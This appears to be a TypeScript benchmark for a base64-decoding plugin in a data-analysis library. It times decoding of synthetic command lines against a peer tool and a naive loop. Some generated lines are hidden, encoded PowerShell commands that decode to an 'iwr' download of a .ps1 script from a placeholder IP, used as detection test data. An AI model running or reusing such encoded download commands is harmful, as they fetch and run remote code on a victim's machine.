// What decoding costs: node --conditions=pivotkit-source test/bench/decode.ts [rows]
// Beside the time that the peer needs, as stored for 9,967 of 10,000 texts (17.502 s on two cores, 2026-11-20), and beside
// a loop that only decodes the base64 it finds, without nesting, text, archives or hashes.
import { createSession, Table } from '@pivotkit/core';
import { decode } from '@pivotkit/plugin-decode';
import { randomFor } from '../../examples/generate/random.ts';

const peerSecondsPerText = 17.502 / 9_967;
const rows = Number(process.argv[2] ?? 100_000);
const random = randomFor('decode');
const encoded = (i: number): string =>
  Buffer.from(`iwr http://203.0.113.${String(i % 250)}/${String(i)}.ps1 -OutFile t${String(i)}`, 'utf16le').toString(
    'base64',
  );
const line = (i: number): string =>
  random.chance(0.1)
    ? `powershell.exe -nop -w hidden -enc ${encoded(i)}`
    : `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Service${String(i)} /log:C:\\ProgramData\\Vendor\\log-${String(i)}.txt`;
const texts = Array.from({ length: rows }, (_, i) => line(i));

const session = await createSession({ plugins: [decode] });
const table = Table.fromRows(texts.map((CommandLine) => ({ CommandLine })));
const timed = async <T>(work: () => T | Promise<T>): Promise<readonly [T, number]> => {
  const start = performance.now();
  return [await work(), (performance.now() - start) / 1_000];
};
const [found, ours] = await timed(
  async () => (await session.from(table).verb('decode.base64', { column: 'CommandLine' }).run()).size,
);
const [naiveFound, naive] = await timed(() =>
  texts.reduce(
    (sum, text) =>
      sum + (text.match(/[A-Za-z0-9+/]{30,}={0,2}/g) ?? []).map((run) => Buffer.from(run, 'base64')).length,
    0,
  ),
);
const peer = rows * peerSecondsPerText;
console.log(`${String(rows)} texts: ${ours.toFixed(2)} s, ${String(found)} things decoded`);
console.log(`the peer, from its stored time: ${peer.toFixed(1)} s, ${(peer / ours).toFixed(0)} times as long`);
console.log(
  `a loop that only finds and decodes base64: ${naive.toFixed(2)} s (${String(naiveFound)}), ${(ours / naive).toFixed(1)} times as quick`,
);
